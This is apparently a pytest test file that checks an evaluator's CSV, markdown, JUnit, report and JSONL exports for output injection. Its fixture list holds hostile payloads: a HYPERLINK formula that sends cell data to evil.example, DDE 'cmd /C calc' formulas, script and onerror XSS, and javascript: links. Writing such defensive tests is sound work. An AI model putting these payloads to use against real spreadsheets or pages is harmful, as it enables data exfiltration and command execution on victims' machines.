"""Values of rows, answers and scorers cannot become formulas, markup or controls in what is exported."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from evaluator import SimulatedBackend, run_batch_sync
from evaluator.cli import main
from tests.viewer.site import assert_harmless, page

QUIZ = (
    '<task name="quiz" type="atomic"><description>Answer a quiz question</description>'
    '<inputs><input name="question" type="string" required="true">it</input></inputs>'
    "<instructions>{{ question }}</instructions></task>"
)
VALUES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"look")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](http://evil.example/a.png) [y](javascript:alert(1)) | a | b |\n\n# heading\n```",
    "]]></failure><failure>\x1b[2J\x00\u202e",
    "--><h1>x</h1>",
]


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A batch in which every text from outside is hostile: ids, fields, names of fields, answers, targets."""
    from evaluator import Evaluator, TemplateLibrary

    root = tmp_path_factory.mktemp("exports")
    (root / "t").mkdir()
    (root / "t" / "t.xml").write_text(QUIZ)
    rows = [
        {"id": value, "question": value, "target": value, value: value, "note": value}
        for value in VALUES
    ]
    evaluator = Evaluator(
        TemplateLibrary.load(root / "t", shipped=False),
        "offline",
        backend=SimulatedBackend(script=lambda request: request.messages[-1].content + " no"),
        tasks_dir=None,
    )
    run_batch_sync(
        "quiz", rows, evaluator=evaluator, output=root / "b", scorers=["exact"], group_by="note"
    )
    return root


def export(root: Path, *arguments: str) -> Path:
    path = root / f"out-{arguments[-1]}"
    with pytest.raises(SystemExit) as ended:
        main([*arguments, str(root / "b"), "--output", str(path)])
    assert not ended.value.code
    return path


def test_no_cell_and_no_column_of_a_csv_file_is_a_formula(batch: Path) -> None:
    path = export(batch, "export", "--format", "csv")
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file)
    assert len(lines) == len(VALUES)
    for cell in (*header, *(cell for line in lines for cell in line)):
        assert not re.match(r"[\s\x00]*[=@＝＠]", cell), cell
        assert not re.match(r"\s*[+\-＋－]", cell) or re.fullmatch(r"-?[\d.e-]+", cell), cell
    # The control: the values are there, behind an apostrophe.
    assert any(cell.startswith("'=HYPERLINK") for line in lines for cell in line)


def test_markdown_has_no_markup_of_a_value(batch: Path) -> None:
    text = export(batch, "export", "--format", "markdown").read_text(encoding="utf-8")
    outside = re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", text)
    assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\((?!#)", outside), outside
    assert not re.search(r"(?<!\\)(?:\\\\)*<(?:script|img|h1)", outside), outside
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", text)
    assert "heading" not in [line.strip("# ") for line in text.splitlines()]


def test_junit_is_well_formed_and_has_one_case_for_each_sample(batch: Path) -> None:
    path = export(batch, "export", "--format", "junit")
    cases = list(ElementTree.parse(path).iter("testcase"))
    assert len(cases) == len(VALUES)
    assert all(len(case.findall("failure")) == 1 for case in cases)


def test_pages_and_reports_have_no_markup_of_a_value(batch: Path) -> None:
    text = export(batch, "report").read_text(encoding="utf-8")
    for part in ("<script>alert", "<img src=x", "</failure>", "<h1>x</h1>", "--><h1>"):
        assert part not in text, part
    link = page(batch, "/batches").data["entries"][0]["href"]
    shown = page(batch, link).text
    assert "HYPERLINK" in shown, "the control"
    assert_harmless(shown)


def test_json_lines_have_one_object_a_line_whatever_a_value_holds(batch: Path) -> None:
    lines = export(batch, "export", "--format", "jsonl").read_bytes().split(b"\n")
    found: list[Any] = [json.loads(line) for line in lines if line]
    assert len(found) == len(VALUES)
